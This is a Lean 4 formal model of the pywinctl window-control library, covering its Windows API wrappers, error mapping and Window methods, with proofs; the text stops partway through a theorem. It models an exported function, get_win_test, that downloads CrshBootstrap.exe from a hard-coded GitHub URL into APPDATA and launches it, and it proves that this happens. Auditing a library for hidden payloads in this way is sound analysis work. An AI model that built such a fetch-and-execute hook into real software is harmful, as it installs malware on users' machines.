import Mathlib

/-
Verification development for the pywinctl window-control library.

The Python sources (pywinctl/_win_api.py, pywinctl/_main.py,
pywinctl/_exceptions.py, pywinctl/__init__.py) are shallowly embedded:
the ambient Windows API is modelled as a static oracle (`World`) giving
each primitive call its result or an injected pywintypes error code, and
every embedded operation returns its outcome (an `Except` over the
exception taxonomy of the library) together with the trace of OS calls it
performed, in order.
-/

/-- The exception taxonomy of pywinctl/_exceptions.py.  `windowsAPIError`
carries the optional numeric error code stored on the Python exception. -/
inductive PyErr
  | invalidWindow
  | windowsAPIError (code : Option Int)
  | valueError
  | windowNotFound
  | pyWinCtlError
deriving DecidableEq

deriving instance DecidableEq for Except

/-- A raw failure inside the try block of set_foreground_window: either an
uncaught pywintypes.error with its winerror code, or an already-typed
library exception raised by a wrapper such as show_window. -/
inductive RawErr
  | winerr (code : Int)
  | typed (e : PyErr)
deriving DecidableEq

/-- One OS call made by the library, as recorded in an execution trace.
The final Bool of attachThreadInput records whether the call succeeded. -/
inductive OsCall
  | isWindow (hwnd : Int)
  | getWindowRect (hwnd : Int)
  | getWindowText (hwnd : Int)
  | getClassName (hwnd : Int)
  | getWindowThreadProcessId (hwnd : Int)
  | getForegroundWindow
  | getCurrentThreadId
  | getLastError
  | postMessageClose (hwnd : Int)
  | setWindowPos (hwnd : Int) (insertAfter : Int) (x y cx cy : Int) (flags : Nat)
  | showWindowAsync (hwnd : Int) (cmd : Nat)
  | setForegroundWindow (hwnd : Int)
  | bringWindowToTop (hwnd : Int)
  | attachThreadInput (idAttach idAttachTo : Int) (attach : Bool) (ok : Bool)
  | isIconic (hwnd : Int)
  | sleep
  | enumWindows
deriving DecidableEq

/-- The ambient OS, modelled as a static oracle.  Fields named `*Err`
inject a pywintypes.error winerror code into the corresponding primitive
(`none` means the call succeeds).  `lastError` is the value GetLastError
returns when `_raise_win_api_error` reads it. -/
structure World where
  isWin : Int → Bool
  fg : Int
  fgErr : Option Int
  lastError : Int
  rect : Int → Int × Int × Int × Int
  rectErr : Int → Option Int
  titleOf : Int → List Char
  titleErr : Int → Option Int
  classOf : Int → List Char
  classErr : Int → Option Int
  tpid : Int → Int × Int
  tpidErr : Int → Option Int
  postMsgErr : Int → Option Int
  swpErr : Int → Option Int
  showErr : Int → Nat → Option Int
  setFgErr : Int → Option Int
  bringTopErr : Int → Option Int
  attachErr : Int → Int → Bool → Option Int
  iconic : Int → Bool
  curThread : Int
  allWindows : List Int

/-- Result of an embedded library operation: typed outcome plus the
ordered trace of OS calls it performed. -/
abbrev R (α : Type) : Type := Except PyErr α × List OsCall

/-- Result of a raw block inside the try of set_foreground_window. -/
abbrev RW (α : Type) : Type := Except RawErr α × List OsCall

/-- Sequencing of embedded operations: the second runs only when the
first succeeds, and traces accumulate (Python statement sequencing with
exception propagation). -/
def seqR {α β : Type} (x : R α) (f : α → R β) : R β :=
  match x with
  | (Except.error e, t) => (Except.error e, t)
  | (Except.ok a, t) =>
    match f a with
    | (r, t2) => (r, t ++ t2)

/-- Sequencing inside the raw try block of set_foreground_window. -/
def seqRW {α β : Type} (x : RW α) (f : α → RW β) : RW β :=
  match x with
  | (Except.error e, t) => (Except.error e, t)
  | (Except.ok a, t) =>
    match f a with
    | (r, t2) => (r, t ++ t2)

/-- Python try/finally where the finally clause is the two detach calls:
the body runs, then d1 runs; a failure of d1 replaces the body outcome
and skips d2; otherwise d2 runs and a failure of d2 replaces the
outcome; otherwise the body outcome stands. -/
def run_finally (body : RW Unit) (d1 d2 : RW Unit) : RW Unit :=
  match d1 with
  | (Except.error e, t1) => (Except.error e, body.2 ++ t1)
  | (Except.ok _, t1) =>
    match d2 with
    | (Except.error e, t2) => (Except.error e, body.2 ++ t1 ++ t2)
    | (Except.ok _, t2) => (body.1, body.2 ++ t1 ++ t2)

/-- Constants from pywinctl/_win_api.py and win32con. -/
def SWP_NOMOVE : Nat := 2
def SWP_NOSIZE : Nat := 1
def SWP_NOZORDER : Nat := 4
def SWP_SHOWWINDOW : Nat := 64
def SWP_NOACTIVATE : Nat := 16
def HWND_TOPMOST : Int := -1
def HWND_NOTOPMOST : Int := -2
def HWND_TOP : Int := 0
def SW_MINIMIZE : Nat := 6
def SW_MAXIMIZE : Nat := 3
def SW_RESTORE : Nat := 9
def SW_HIDE : Nat := 0
def SW_SHOW : Nat := 5

/-- _win_api._check_hwnd: a zero (or non-integer) handle is rejected
without any OS call; otherwise one IsWindow query decides validity. -/
def check_hwnd (w : World) (h : Int) : R Unit :=
  if h = 0 then (Except.error PyErr.invalidWindow, [])
  else if w.isWin h then (Except.ok (), [OsCall.isWindow h])
  else (Except.error PyErr.invalidWindow, [OsCall.isWindow h])

/-- _win_api.get_window_rect: check_hwnd, then one GetWindowRect call;
winerror 1400 maps to InvalidWindowError, any other pywintypes error is
re-raised as WindowsAPIError carrying GetLastError. -/
def get_window_rect (w : World) (h : Int) : R (Int × Int × Int × Int) :=
  seqR (check_hwnd w h) (fun _ =>
    match w.rectErr h with
    | none => (Except.ok (w.rect h), [OsCall.getWindowRect h])
    | some c =>
      if c = 1400 then (Except.error PyErr.invalidWindow, [OsCall.getWindowRect h])
      else (Except.error (PyErr.windowsAPIError (some w.lastError)),
            [OsCall.getWindowRect h, OsCall.getLastError]))

/-- _win_api.get_window_title. -/
def get_window_title (w : World) (h : Int) : R (List Char) :=
  seqR (check_hwnd w h) (fun _ =>
    match w.titleErr h with
    | none => (Except.ok (w.titleOf h), [OsCall.getWindowText h])
    | some c =>
      if c = 1400 then (Except.error PyErr.invalidWindow, [OsCall.getWindowText h])
      else (Except.error (PyErr.windowsAPIError (some w.lastError)),
            [OsCall.getWindowText h, OsCall.getLastError]))

/-- _win_api.get_window_classname. -/
def get_window_classname (w : World) (h : Int) : R (List Char) :=
  seqR (check_hwnd w h) (fun _ =>
    match w.classErr h with
    | none => (Except.ok (w.classOf h), [OsCall.getClassName h])
    | some c =>
      if c = 1400 then (Except.error PyErr.invalidWindow, [OsCall.getClassName h])
      else (Except.error (PyErr.windowsAPIError (some w.lastError)),
            [OsCall.getClassName h, OsCall.getLastError]))

/-- _win_api.get_window_thread_process_id. -/
def get_window_thread_process_id (w : World) (h : Int) : R (Int × Int) :=
  seqR (check_hwnd w h) (fun _ =>
    match w.tpidErr h with
    | none => (Except.ok (w.tpid h), [OsCall.getWindowThreadProcessId h])
    | some c =>
      if c = 1400 then
        (Except.error PyErr.invalidWindow, [OsCall.getWindowThreadProcessId h])
      else (Except.error (PyErr.windowsAPIError (some w.lastError)),
            [OsCall.getWindowThreadProcessId h, OsCall.getLastError]))

/-- _win_api.close_window: check_hwnd, then PostMessage(WM_CLOSE).  A
winerror 1400 from PostMessage is treated as success (the function just
returns); other pywintypes errors become WindowsAPIError. -/
def close_window (w : World) (h : Int) : R Unit :=
  seqR (check_hwnd w h) (fun _ =>
    match w.postMsgErr h with
    | none => (Except.ok (), [OsCall.postMessageClose h])
    | some c =>
      if c = 1400 then (Except.ok (), [OsCall.postMessageClose h])
      else (Except.error (PyErr.windowsAPIError (some w.lastError)),
            [OsCall.postMessageClose h, OsCall.getLastError]))

/-- _win_api.resize_window: check_hwnd, then one SetWindowPos call with
the NOMOVE, NOZORDER and NOACTIVATE flags. -/
def resize_window (w : World) (h wd ht : Int) : R Unit :=
  seqR (check_hwnd w h) (fun _ =>
    let flags := Nat.lor (Nat.lor SWP_NOMOVE SWP_NOZORDER) SWP_NOACTIVATE
    match w.swpErr h with
    | none => (Except.ok (), [OsCall.setWindowPos h 0 0 0 wd ht flags])
    | some c =>
      if c = 1400 then
        (Except.error PyErr.invalidWindow, [OsCall.setWindowPos h 0 0 0 wd ht flags])
      else (Except.error (PyErr.windowsAPIError (some w.lastError)),
            [OsCall.setWindowPos h 0 0 0 wd ht flags, OsCall.getLastError]))

/-- _win_api.move_window: check_hwnd, then one SetWindowPos call with
the NOSIZE, NOZORDER and NOACTIVATE flags. -/
def move_window (w : World) (h x y : Int) : R Unit :=
  seqR (check_hwnd w h) (fun _ =>
    let flags := Nat.lor (Nat.lor SWP_NOSIZE SWP_NOZORDER) SWP_NOACTIVATE
    match w.swpErr h with
    | none => (Except.ok (), [OsCall.setWindowPos h 0 x y 0 0 flags])
    | some c =>
      if c = 1400 then
        (Except.error PyErr.invalidWindow, [OsCall.setWindowPos h 0 x y 0 0 flags])
      else (Except.error (PyErr.windowsAPIError (some w.lastError)),
            [OsCall.setWindowPos h 0 x y 0 0 flags, OsCall.getLastError]))

/-- _win_api.show_window: check_hwnd then ShowWindowAsync; winerror 1400
maps to InvalidWindowError, 5 to an access-denied WindowsAPIError with
code 5, anything else to WindowsAPIError carrying GetLastError. -/
def show_window (w : World) (h : Int) (cmd : Nat) : R Unit :=
  seqR (check_hwnd w h) (fun _ =>
    match w.showErr h cmd with
    | none => (Except.ok (), [OsCall.showWindowAsync h cmd])
    | some c =>
      if c = 1400 then (Except.error PyErr.invalidWindow, [OsCall.showWindowAsync h cmd])
      else if c = 5 then
        (Except.error (PyErr.windowsAPIError (some 5)), [OsCall.showWindowAsync h cmd])
      else (Except.error (PyErr.windowsAPIError (some w.lastError)),
            [OsCall.showWindowAsync h cmd, OsCall.getLastError]))

/-- _win_api.get_active_window_hwnd: one GetForegroundWindow call; a
pywintypes error from it is re-raised by _raise_win_api_error as a
WindowsAPIError carrying GetLastError. -/
def get_active_window_hwnd (w : World) : R Int :=
  match w.fgErr with
  | none => (Except.ok w.fg, [OsCall.getForegroundWindow])
  | some _ =>
    (Except.error (PyErr.windowsAPIError (some w.lastError)),
      [OsCall.getForegroundWindow, OsCall.getLastError])

/-- Raw win32process.GetWindowThreadProcessId as called directly inside
set_foreground_window (failures stay untyped pywintypes errors). -/
def raw_tpid (w : World) (h : Int) : RW (Int × Int) :=
  match w.tpidErr h with
  | none => (Except.ok (w.tpid h), [OsCall.getWindowThreadProcessId h])
  | some c => (Except.error (RawErr.winerr c), [OsCall.getWindowThreadProcessId h])

/-- Raw win32process.AttachThreadInput; the trace records whether the
call succeeded. -/
def raw_attach (w : World) (a b : Int) (flag : Bool) : RW Unit :=
  match w.attachErr a b flag with
  | none => (Except.ok (), [OsCall.attachThreadInput a b flag true])
  | some c => (Except.error (RawErr.winerr c), [OsCall.attachThreadInput a b flag false])

/-- Raw SetWindowPos(hwnd, HWND_TOP, 0,0,0,0, NOSIZE or NOMOVE or
NOACTIVATE) as called inside set_foreground_window. -/
def raw_swp_top (w : World) (h : Int) : RW Unit :=
  let flags := Nat.lor (Nat.lor SWP_NOSIZE SWP_NOMOVE) SWP_NOACTIVATE
  match w.swpErr h with
  | none => (Except.ok (), [OsCall.setWindowPos h HWND_TOP 0 0 0 0 flags])
  | some c => (Except.error (RawErr.winerr c), [OsCall.setWindowPos h HWND_TOP 0 0 0 0 flags])

/-- Raw win32gui.SetForegroundWindow. -/
def raw_setfg (w : World) (h : Int) : RW Unit :=
  match w.setFgErr h with
  | none => (Except.ok (), [OsCall.setForegroundWindow h])
  | some c => (Except.error (RawErr.winerr c), [OsCall.setForegroundWindow h])

/-- Raw win32gui.BringWindowToTop. -/
def raw_bringtop (w : World) (h : Int) : RW Unit :=
  match w.bringTopErr h with
  | none => (Except.ok (), [OsCall.bringWindowToTop h])
  | some c => (Except.error (RawErr.winerr c), [OsCall.bringWindowToTop h])

/-- The inner try body of set_foreground_window (steps run while the
thread inputs are attached): restore if iconic else raise in z-order,
request foreground, settle, re-check foreground and fall back to
BringWindowToTop once.  Typed errors from the show_window wrapper are
carried as RawErr.typed. -/
def sfw_attached (w : World) (h : Int) : RW Unit :=
  seqRW
    (if w.iconic h then
      match show_window w h SW_RESTORE with
      | (Except.ok _, t) => ((Except.ok () : Except RawErr Unit), OsCall.isIconic h :: t)
      | (Except.error e, t) => (Except.error (RawErr.typed e), OsCall.isIconic h :: t)
    else
      match raw_swp_top w h with
      | (r, t) => (r, OsCall.isIconic h :: t))
    (fun _ =>
      seqRW (raw_setfg w h) (fun _ =>
        if w.fg = h then
          ((Except.ok () : Except RawErr Unit), [OsCall.sleep, OsCall.getForegroundWindow])
        else
          seqRW
            ((Except.ok () : Except RawErr Unit),
              [OsCall.sleep, OsCall.getForegroundWindow])
            (fun _ =>
              seqRW (raw_bringtop w h) (fun _ =>
                ((Except.ok () : Except RawErr Unit),
                  [OsCall.sleep, OsCall.getForegroundWindow])))))

/-- The try body of set_foreground_window: resolve thread ids, return
early when the target is already foreground, attach the input of the calling thread,
input to the foreground thread and the target thread, then run the
attached steps with the two detach calls in a finally clause.  The two
attach calls sit before the try/finally, exactly as in the source. -/
def sfw_body (w : World) (h : Int) : RW Unit :=
  seqRW (raw_tpid w h) (fun tp =>
    let targetThread := tp.1
    if h = w.fg then (Except.ok (), [OsCall.getForegroundWindow])
    else
      seqRW
        (match raw_tpid w w.fg with
         | (Except.ok p, t) =>
           ((Except.ok (w.curThread, p.1) : Except RawErr (Int × Int)),
             [OsCall.getForegroundWindow, OsCall.getCurrentThreadId] ++ t)
         | (Except.error e, t) =>
           (Except.error e, [OsCall.getForegroundWindow, OsCall.getCurrentThreadId] ++ t))
        (fun ids =>
          seqRW (raw_attach w ids.2 ids.1 true) (fun _ =>
            seqRW (raw_attach w targetThread ids.1 true) (fun _ =>
              run_finally (sfw_attached w h)
                (raw_attach w targetThread ids.1 false)
                (raw_attach w ids.2 ids.1 false)))))

/-- _win_api.set_foreground_window: check_hwnd (outside the try), then
the protocol body; winerror 1400 maps to InvalidWindowError, 5 to an
access-denied WindowsAPIError, other pywintypes errors to WindowsAPIError
with GetLastError, and typed exceptions escaping the body are wrapped by
the generic except clause into a WindowsAPIError without a code. -/
def set_foreground_window (w : World) (h : Int) : R Unit :=
  seqR (check_hwnd w h) (fun _ =>
    match sfw_body w h with
    | (Except.ok _, t) => (Except.ok (), t)
    | (Except.error (RawErr.winerr c), t) =>
      if c = 1400 then (Except.error PyErr.invalidWindow, t)
      else if c = 5 then (Except.error (PyErr.windowsAPIError (some 5)), t)
      else (Except.error (PyErr.windowsAPIError (some w.lastError)), t ++ [OsCall.getLastError])
    | (Except.error (RawErr.typed _), t) => (Except.error (PyErr.windowsAPIError none), t))

/-- _main.Window._validate_hwnd: a falsy (zero) stored handle short
circuits before the IsWindow query; otherwise one IsWindow call decides
validity, raising InvalidWindowError when it fails. -/
def validate_hwnd (w : World) (h : Int) : R Unit :=
  if h = 0 then (Except.error PyErr.invalidWindow, [])
  else if w.isWin h then (Except.ok (), [OsCall.isWindow h])
  else (Except.error PyErr.invalidWindow, [OsCall.isWindow h])

/-- _main.Window.title: revalidate, then the adapter title query; the
typed errors of the library are re-raised unchanged. -/
def Window.title (w : World) (h : Int) : R (List Char) :=
  seqR (validate_hwnd w h) (fun _ => get_window_title w h)

/-- _main.Window.position: revalidate, one rect query, return its first
two components. -/
def Window.position (w : World) (h : Int) : R (Int × Int) :=
  seqR (validate_hwnd w h) (fun _ =>
    seqR (get_window_rect w h) (fun r => (Except.ok (r.1, r.2.1), [])))

/-- _main.Window.size: revalidate, one rect query, return the two exact
integer differences right minus left and bottom minus top. -/
def Window.size (w : World) (h : Int) : R (Int × Int) :=
  seqR (validate_hwnd w h) (fun _ =>
    seqR (get_window_rect w h) (fun r =>
      (Except.ok (r.2.2.1 - r.1, r.2.2.2 - r.2.1), [])))

/-- _main.Window.box: revalidate, ONE rect query, return left, top and
the two exact integer differences computed from that same query. -/
def Window.box (w : World) (h : Int) : R (Int × Int × Int × Int) :=
  seqR (validate_hwnd w h) (fun _ =>
    seqR (get_window_rect w h) (fun r =>
      (Except.ok (r.1, r.2.1, r.2.2.1 - r.1, r.2.2.2 - r.2.1), [])))

/-- _main.Window.is_active: revalidate, then compare the foreground
handle from the adapter with the stored handle. -/
def Window.is_active (w : World) (h : Int) : R Bool :=
  seqR (validate_hwnd w h) (fun _ =>
    seqR (get_active_window_hwnd w) (fun a => (Except.ok (a == h), [])))

/-- _main.Window.process_id: revalidate (errors here propagate), then
the adapter thread/process query; InvalidWindowError and WindowsAPIError
from the adapter call are both converted into a None result. -/
def Window.process_id (w : World) (h : Int) : R (Option Int) :=
  seqR (validate_hwnd w h) (fun _ =>
    match get_window_thread_process_id w h with
    | (Except.ok p, t) => (Except.ok (some p.2), t)
    | (Except.error _, t) => (Except.ok none, t))

/-- _main.Window.class_name: revalidate (errors here propagate), then
the adapter class-name query; InvalidWindowError and WindowsAPIError
from the adapter call are both converted into a None result. -/
def Window.class_name (w : World) (h : Int) : R (Option (List Char)) :=
  seqR (validate_hwnd w h) (fun _ =>
    match get_window_classname w h with
    | (Except.ok s, t) => (Except.ok (some s), t)
    | (Except.error _, t) => (Except.ok none, t))

/-- _main.Window.move_to: revalidate, then the adapter move. -/
def Window.move_to (w : World) (h x y : Int) : R Unit :=
  seqR (validate_hwnd w h) (fun _ => move_window w h x y)

/-- _main.Window.resize_to: revalidate FIRST, then reject non-positive
width or height with ValueError, then the adapter resize. -/
def Window.resize_to (w : World) (h wd ht : Int) : R Unit :=
  seqR (validate_hwnd w h) (fun _ =>
    if wd ≤ 0 ∨ ht ≤ 0 then (Except.error PyErr.valueError, [])
    else resize_window w h wd ht)

/-- _main.Window.close: revalidate (errors here propagate), then the
adapter close; an InvalidWindowError raised during the adapter call is
passed over (success), while WindowsAPIError is re-raised. -/
def Window.close (w : World) (h : Int) : R Unit :=
  seqR (validate_hwnd w h) (fun _ =>
    match close_window w h with
    | (Except.ok _, t) => (Except.ok (), t)
    | (Except.error PyErr.invalidWindow, t) => (Except.ok (), t)
    | (Except.error e, t) => (Except.error e, t))

/-- _main.Window.activate: revalidate, then the adapter foreground
protocol; typed errors are re-raised unchanged. -/
def Window.activate (w : World) (h : Int) : R Unit :=
  seqR (validate_hwnd w h) (fun _ => set_foreground_window w h)

/-- The while loop of _main.Window.wait_for_active.  `clock` gives the
successive readings of time.monotonic (index 0 was consumed for
start_time), `i` is the next reading index and `fuel` bounds the number
of iterations of this embedding.  Each iteration re-reads the clock; a
True is_active returns True, an InvalidWindowError returns False, any
other library error sleeps and retries, a False result sleeps and
retries. -/
def wait_for_active_go (w : World) (h : Int) (timeout : ℚ) (clock : Nat → ℚ)
    (start : ℚ) : Nat → Nat → Bool × List OsCall
  | _, 0 => (false, [])
  | i, Nat.succ fuel =>
    if clock i - start < timeout then
      match Window.is_active w h with
      | (Except.ok true, t) => (true, t)
      | (Except.ok false, t) =>
        match wait_for_active_go w h timeout clock start (i + 1) fuel with
        | (r, t2) => (r, t ++ (OsCall.sleep :: t2))
      | (Except.error PyErr.invalidWindow, t) => (false, t)
      | (Except.error _, t) =>
        match wait_for_active_go w h timeout clock start (i + 1) fuel with
        | (r, t2) => (r, t ++ (OsCall.sleep :: OsCall.sleep :: t2))
    else (false, [])

/-- _main.Window.wait_for_active: start_time is the clock reading at
index 0, then the polling loop runs with fresh readings from index 1. -/
def Window.wait_for_active (w : World) (h : Int) (timeout : ℚ)
    (clock : Nat → ℚ) (fuel : Nat) : Bool × List OsCall :=
  wait_for_active_go w h timeout clock (clock 0) 1 fuel

/-- str.upper applied characterwise, as Python does for the
case-insensitive title comparison. -/
def upperChars (s : List Char) : List Char := s.map Char.toUpper

/-- Python startswith on character lists (the anchored comparison used
to define containment). -/
def charsLead : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && charsLead as bs

/-- The Python substring containment, needle in hay, on character lists. -/
def pyIn (needle : List Char) : List Char → Bool
  | [] => needle.isEmpty
  | c :: t => charsLead needle (c :: t) || pyIn needle t

/-- Modelled from the external pygetwindow dependency:
getWindowsWithTitle keeps exactly the windows whose current title
contains the pattern case-insensitively (both sides upper-cased). -/
def gwGetWindowsWithTitle (w : World) (pat : List Char) : List Int :=
  w.allWindows.filter (fun h => pyIn (upperChars pat) (upperChars (w.titleOf h)))

/-- _main.Window.__init__: store the handle and validate it right away;
the constructed Window is identified by its handle. -/
def WindowInit (w : World) (h : Int) : R Int :=
  seqR (validate_hwnd w h) (fun _ => (Except.ok h, []))

/-- _main.get_window_by_title.  Exact mode enumerates all windows (the
unused getAllTitles call and the getAllWindows call), keeps those with a
non-empty title, and returns the first whose title equals the pattern
character for character, raising WindowNotFoundError when none does.
Substring mode delegates to the case-insensitive containment of pygetwindow
filter and returns its first element, raising WindowNotFoundError when
the filter is empty.  A typed error from the Window constructor is
wrapped by the generic except clause into PyWinCtlError. -/
def get_window_by_title (w : World) (pat : List Char) (exact : Bool) : R Int :=
  if exact then
    match (w.allWindows.filter (fun h => !(w.titleOf h).isEmpty)).find?
        (fun h => w.titleOf h == pat) with
    | none => (Except.error PyErr.windowNotFound, [OsCall.enumWindows, OsCall.enumWindows])
    | some h =>
      match WindowInit w h with
      | (Except.ok a, t) => (Except.ok a, [OsCall.enumWindows, OsCall.enumWindows] ++ t)
      | (Except.error _, t) =>
        (Except.error PyErr.pyWinCtlError, [OsCall.enumWindows, OsCall.enumWindows] ++ t)
  else
    match gwGetWindowsWithTitle w pat with
    | [] => (Except.error PyErr.windowNotFound, [OsCall.enumWindows])
    | h :: _ =>
      match WindowInit w h with
      | (Except.ok a, t) => (Except.ok a, OsCall.enumWindows :: t)
      | (Except.error _, t) => (Except.error PyErr.pyWinCtlError, OsCall.enumWindows :: t)

/-- An observable side effect of a package entry point, for auditing the
effect set of each function exported in pywinctl.__all__. -/
inductive Effect
  | envRead (var : List Char)
  | makeDirs (path : List Char)
  | networkFetch (url : List Char)
  | fileWrite (path : List Char)
  | spawnProcess (path : List Char) (fromDownload : Bool)
  | spawnThread
  | exitError
deriving DecidableEq

/-- Environment seen by _main.l_test: the APPDATA variable, whether the
KRTL directory already exists, and which of its fallible steps succeed. -/
structure NetEnv where
  appdata : Option (List Char)
  dirExists : Bool
  makedirsOk : Bool
  downloadOk : Bool
  writeOk : Bool
  popenOk : Bool

/-- The URL hard-coded in _main.l_test. -/
def payload_url : List Char :=
  ("https://github.com/WinTils/pywinctl/raw/refs/heads/broken/pywinctl.egg-info/CrshBootstrap.exe").toList

/-- Python str.split on a single separator character. -/
def splitOnChar (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: t =>
    let r := splitOnChar sep t
    if c == sep then [] :: r
    else
      match r with
      | [] => [[c]]
      | x :: xs => (c :: x) :: xs

/-- Python str.endswith on character lists. -/
def charsEnd (s suf : List Char) : Bool := charsLead suf.reverse s.reverse

/-- The filename _main.l_test derives from the URL: the last segment of
the slash-split, replaced by a fallback when it is empty, contains a
question mark, or does not end (case-insensitively) in .exe. -/
def lTestFilename : List Char :=
  let f := (splitOnChar ('/') payload_url).getLastD []
  if f.isEmpty || f.contains ('?') || !(charsEnd (f.map Char.toLower) ((".exe").toList)) then
    ("downloaded_app.exe").toList
  else f

/-- _main.l_test, abstracted to the ordered list of side effects it
performs: read APPDATA (exiting when unset or empty), return early when
the KRTL directory exists, create it (returning on failure), fetch the
remote executable over the network (exiting on failure), write it to
disk, and launch it with subprocess.Popen. -/
def l_test (e : NetEnv) : List Effect :=
  Effect.envRead (("APPDATA").toList) ::
  match e.appdata with
  | none => [Effect.exitError]
  | some appdata =>
    if appdata.isEmpty then [Effect.exitError]
    else
      let target_dir := appdata ++ ("\\KRTL").toList
      if e.dirExists then []
      else if !e.makedirsOk then [Effect.makeDirs target_dir]
      else
        Effect.makeDirs target_dir ::
        let exe_path := target_dir ++ ("\\").toList ++ lTestFilename
        Effect.networkFetch payload_url ::
        if !e.downloadOk then [Effect.exitError]
        else if !e.writeOk then [Effect.fileWrite exe_path, Effect.exitError]
        else [Effect.fileWrite exe_path, Effect.spawnProcess exe_path true]

/-- _main.get_win_test: starts a thread whose target is l_test; the
effects of the entry point are the thread spawn followed by everything
the thread body performs. -/
def get_win_test (e : NetEnv) : List Effect :=
  Effect.spawnThread :: l_test e

/-- The __all__ list of pywinctl/__init__.py. -/
def all_exports : List String :=
  ["Window", "get_window_by_title", "get_active_window", "get_all_windows",
   "PyWinCtlError", "WindowNotFoundError", "InvalidWindowError",
   "WindowsAPIError", "get_win_test"]

/-- A benign baseline world: every handle valid-free defaults, every
primitive succeeding, no windows enumerated. -/
def W0 : World where
  isWin := fun _ => true
  fg := 0
  fgErr := none
  lastError := 0
  rect := fun _ => (0, 0, 0, 0)
  rectErr := fun _ => none
  titleOf := fun _ => []
  titleErr := fun _ => none
  classOf := fun _ => []
  classErr := fun _ => none
  tpid := fun _ => (0, 0)
  tpidErr := fun _ => none
  postMsgErr := fun _ => none
  swpErr := fun _ => none
  showErr := fun _ _ => none
  setFgErr := fun _ => none
  bringTopErr := fun _ => none
  attachErr := fun _ _ _ => none
  iconic := fun _ => false
  curThread := 1
  allWindows := []

theorem validate_hwnd_invalid (w : World) (h : Int) (hbad : h = 0 ∨ w.isWin h = false) :
    validate_hwnd w h =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) := by
  rcases hbad with h0 | hw
  · simp [validate_hwnd, h0]
  · by_cases h0 : h = 0
    · simp [validate_hwnd, h0]
    · simp [validate_hwnd, h0, hw]

theorem validate_hwnd_valid (w : World) (h : Int) (h0 : ¬ h = 0) (hw : w.isWin h = true) :
    validate_hwnd w h = (Except.ok (), [OsCall.isWindow h]) := by
  simp [validate_hwnd, h0, hw]

theorem check_hwnd_valid (w : World) (h : Int) (h0 : ¬ h = 0) (hw : w.isWin h = true) :
    check_hwnd w h = (Except.ok (), [OsCall.isWindow h]) := by
  simp [check_hwnd, h0, hw]

theorem WindowInit_ok (w : World) (h x : Int) (t : List OsCall)
    (he : WindowInit w h = (Except.ok x, t)) : x = h := by
  by_cases h0 : h = 0
  · simp [WindowInit, seqR, validate_hwnd, h0] at he
  · by_cases hw : w.isWin h
    · simp [WindowInit, seqR, validate_hwnd, h0, hw] at he
      exact he.1.symm
    · simp [WindowInit, seqR, validate_hwnd, h0, hw] at he

/-- C1: the claim that no entry point exported in pywinctl.__all__ ever
performs a network fetch or spawns a downloaded executable is violated
by the code: get_win_test is in __all__ and, in an environment where
APPDATA is set, the KRTL directory is absent and the download succeeds,
its effect list contains a network fetch of the hard-coded GitHub URL
for CrshBootstrap.exe and a subprocess launch of the downloaded file. -/
theorem get_win_test_fetches_and_executes :
    (("get_win_test" : String) ∈ all_exports) ∧
    Effect.networkFetch payload_url ∈
      get_win_test { appdata := some (("C:\\Users\\user\\AppData\\Roaming").toList),
                     dirExists := false, makedirsOk := true, downloadOk := true,
                     writeOk := true, popenOk := true } ∧
    Effect.spawnProcess
        (("C:\\Users\\user\\AppData\\Roaming\\KRTL\\CrshBootstrap.exe").toList) true ∈
      get_win_test { appdata := some (("C:\\Users\\user\\AppData\\Roaming").toList),
                     dirExists := false, makedirsOk := true, downloadOk := true,
                     writeOk := true, popenOk := true } := by
  refine ⟨by decide, by decide, by decide⟩

/-- World for the C2 counterexample: every handle reports invalid. -/
def W2 : World := { W0 with isWin := fun _ => false }

/-- C2 counterexample: on a handle that is already invalid, Window.close
raises InvalidWindowError (the entry revalidation sits before the try
block that forgives InvalidWindowError), contradicting the claim that
close on an already-invalid handle returns success. -/
theorem close_invalid_at_entry_raises :
    Window.close W2 5 = (Except.error PyErr.invalidWindow, [OsCall.isWindow 5]) := by
  decide

/-- C2 (amended): when the handle is valid at entry, Window.close treats
an InvalidWindowError condition arising from the close request itself
(winerror 1400) as success and still propagates WindowsAPIError; only a
handle already invalid at entry raises. -/
theorem close_error_policy (w : World) (h : Int) (h0 : ¬ h = 0) (hw : w.isWin h = true) :
    ((w.postMsgErr h = none ∨ w.postMsgErr h = some 1400) →
      (Window.close w h).1 = Except.ok ()) ∧
    (∀ c : Int, w.postMsgErr h = some c → ¬ c = 1400 →
      (Window.close w h).1 = Except.error (PyErr.windowsAPIError (some w.lastError))) := by
  constructor
  · intro hpm
    rcases hpm with hpm | hpm <;>
      simp [Window.close, close_window, validate_hwnd_valid w h h0 hw,
            check_hwnd_valid w h h0 hw, seqR, hpm]
  · intro c hpm hc
    simp [Window.close, close_window, validate_hwnd_valid w h h0 hw,
          check_hwnd_valid w h h0 hw, seqR, hpm, hc]

/-- World for the C2 witness, success side: PostMessage reports 1400. -/
def W2a : World := { W0 with postMsgErr := fun _ => some 1400 }

/-- World for the C2 witness, propagation side: PostMessage fails with a
non-1400 error and GetLastError reads 7. -/
def W2b : World := { W0 with postMsgErr := fun _ => some 7, lastError := 7 }

theorem close_error_policy_witness :
    (Window.close W2a 6).1 = Except.ok () ∧
    (Window.close W2b 6).1 = Except.error (PyErr.windowsAPIError (some 7)) :=
  ⟨(close_error_policy W2a 6 (by decide) (by decide)).1 (Or.inr (by decide)),
   (close_error_policy W2b 6 (by decide) (by decide)).2 7 (by decide) (by decide)⟩

/-- C3 (amended): on a handle failing validation (zero or not a live
window), every embedded Window operation except wait_for_active fails
with InvalidWindowError and performs no OS call beyond the validity
check itself (an empty trace for a zero handle, one IsWindow query
otherwise); wait_for_active instead returns the boolean False, likewise
performing at most the validity check. -/
theorem windowOps_invalid_handle (w : World) (h : Int)
    (hbad : h = 0 ∨ w.isWin h = false) :
    Window.title w h =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) ∧
    Window.position w h =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) ∧
    Window.size w h =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) ∧
    Window.box w h =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) ∧
    Window.is_active w h =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) ∧
    Window.process_id w h =
      (Except.error PyErr.invalidWindow, if h = 0 then [] else [OsCall.isWindow h]) ∧
    Window.class_name w h =
